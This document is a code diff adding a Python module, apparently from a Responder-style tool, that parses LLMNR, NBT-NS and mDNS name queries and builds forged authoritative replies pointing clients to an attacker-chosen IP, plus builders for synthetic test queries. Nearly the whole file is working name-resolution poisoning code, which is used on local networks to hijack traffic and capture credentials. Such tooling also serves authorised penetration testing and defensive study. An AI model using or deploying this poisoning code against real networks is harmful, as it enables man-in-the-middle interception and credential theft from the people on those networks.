@@ -0,0 +1,141 @@
+import socket
+import struct
+from typing import Optional, Tuple
+
+# Name resolution protocols answered by the poisoners, keyed like
+# ResponderCapture.poisoning_ports
+PROTOCOLS = {
+    'llmnr': 'LLMNR',
+    'nbt-ns': 'NBT-NS',
+    'mdns': 'MDNS',
+}
+
+def parse_llmnr_query(data: bytes) -> Optional[str]:
+    """Return the queried name of an LLMNR query, or None if it is not a query"""
+    if data[2:4] != b'\x00\x00':
+        return None
+    name_length = struct.unpack('!B', data[12:13])[0]
+    return data[13:13 + name_length].decode('utf-8')
+
+def build_llmnr_response(data: bytes, response_ip: str) -> bytes:
+    """Build a poisoned LLMNR answer for the query in data"""
+    name_length = struct.unpack('!B', data[12:13])[0]
+    return (
+        data[:2] +  # Transaction ID
+        b'\x80\x00' +  # Flags (response + authoritative)
+        b'\x00\x01' +  # Questions
+        b'\x00\x01' +  # Answer RRs
+        b'\x00\x00' +  # Authority RRs
+        b'\x00\x00' +  # Additional RRs
+        data[12:13+name_length+1] +  # Original query
+        b'\x00\x01' +  # Type (A)
+        b'\x00\x01' +  # Class (IN)
+        b'\x00\x00\x00\x1e' +  # TTL (30 seconds)
+        b'\x00\x04' +  # Data length
+        socket.inet_aton(response_ip)  # Our IP
+    )
+
+def parse_nbtns_query(data: bytes) -> Optional[str]:
+    """Return the queried name of an NBT-NS name query, or None"""
+    if data[2:4] != b'\x01\x10':
+        return None
+    return data[13:45].decode('ascii').strip()
+
+def build_nbtns_response(data: bytes, response_ip: str) -> bytes:
+    """Build a poisoned NBT-NS answer for the query in data"""
+    return (
+        data[:2] +  # Transaction ID
+        b'\x85\x00' +  # Flags (response + authoritative)
+        b'\x00\x00' +  # Questions
+        b'\x00\x01' +  # Answer RRs
+        b'\x00\x00' +  # Authority RRs
+        b'\x00\x00' +  # Additional RRs
+        data[12:45] +  # Original query
+        b'\x00\x20' +  # Type (NB)
+        b'\x00\x01' +  # Class (IN)
+        b'\x00\x00\x00\x1e' +  # TTL (30 seconds)
+        b'\x00\x04' +  # Data length
+        socket.inet_aton(response_ip)  # Our IP
+    )
+
+def parse_mdns_query(data: bytes) -> Optional[str]:
+    """Return the queried name of an MDNS query, or None"""
+    if data[2:4] != b'\x00\x00':
+        return None
+    return data[12:].split(b'\x00')[0].decode('utf-8')
+
+def build_mdns_response(data: bytes, response_ip: str) -> bytes:
+    """Build a poisoned MDNS answer for the query in data"""
+    return (
+        data[:2] +  # Transaction ID
+        b'\x84\x00' +  # Flags (response + authoritative)
+        b'\x00\x00' +  # Questions
+        b'\x00\x01' +  # Answer RRs
+        b'\x00\x00' +  # Authority RRs
+        b'\x00\x00' +  # Additional RRs
+        data[12:] +  # Original query
+        b'\x00\x01' +  # Type (A)
+        b'\x00\x01' +  # Class (IN)
+        b'\x00\x00\x00\x1e' +  # TTL (30 seconds)
+        b'\x00\x04' +  # Data length
+        socket.inet_aton(response_ip)  # Our IP
+    )
+
+_HANDLERS = {
+    'llmnr': (parse_llmnr_query, build_llmnr_response),
+    'nbt-ns': (parse_nbtns_query, build_nbtns_response),
+    'mdns': (parse_mdns_query, build_mdns_response),
+}
+
+def answer_query(protocol: str, data: bytes, response_ip: str) -> Optional[Tuple[str, bytes]]:
+    """
+    Parse a name resolution query and build the poisoned answer.
+
+    Args:
+        protocol (str): One of the PROTOCOLS keys
+        data (bytes): Raw UDP payload received from the client
+        response_ip (str): IP address to advertise in the answer
+
+    Returns:
+        Optional[Tuple[str, bytes]]: (query_name, response) or None if data is not a query
+    """
+    parse, build = _HANDLERS[protocol]
+    query_name = parse(data)
+    if query_name is None:
+        return None
+    return query_name, build(data, response_ip)
+
+# Synthetic queries, used by the loopback tests and load generators
+
+def _dns_labels(name: str) -> bytes:
+    encoded = b''
+    for label in name.split('.'):
+        raw = label.encode('utf-8')
+        encoded += struct.pack('!B', len(raw)) + raw
+    return encoded + b'\x00'
+
+def _netbios_encode(name: str, suffix: int = 0x20) -> bytes:
+    """First-level encode a NetBIOS name (RFC 1001 section 14.1)"""
+    raw = name.upper().encode('ascii')[:15].ljust(15, b' ') + bytes([suffix])
+    return b''.join(bytes([0x41 + (b >> 4), 0x41 + (b & 0x0f)]) for b in raw)
+
+def build_llmnr_query(name: str, transaction_id: int = 0) -> bytes:
+    """Build an LLMNR A query for name"""
+    return (struct.pack('!HHHHHH', transaction_id, 0, 1, 0, 0, 0) +
+            _dns_labels(name) + b'\x00\x01\x00\x01')
+
+def build_nbtns_query(name: str, transaction_id: int = 0) -> bytes:
+    """Build an NBT-NS broadcast name query for name"""
+    return (struct.pack('!HHHHHH', transaction_id, 0x0110, 1, 0, 0, 0) +
+            b'\x20' + _netbios_encode(name) + b'\x00' + b'\x00\x20\x00\x01')
+
+def build_mdns_query(name: str, transaction_id: int = 0) -> bytes:
+    """Build an MDNS A query for name"""
+    return (struct.pack('!HHHHHH', transaction_id, 0, 1, 0, 0, 0) +
+            _dns_labels(name) + b'\x00\x01\x00\x01')
+
+QUERY_BUILDERS = {
+    'llmnr': build_llmnr_query,
+    'nbt-ns': build_nbtns_query,
+    'mdns': build_mdns_query,
+}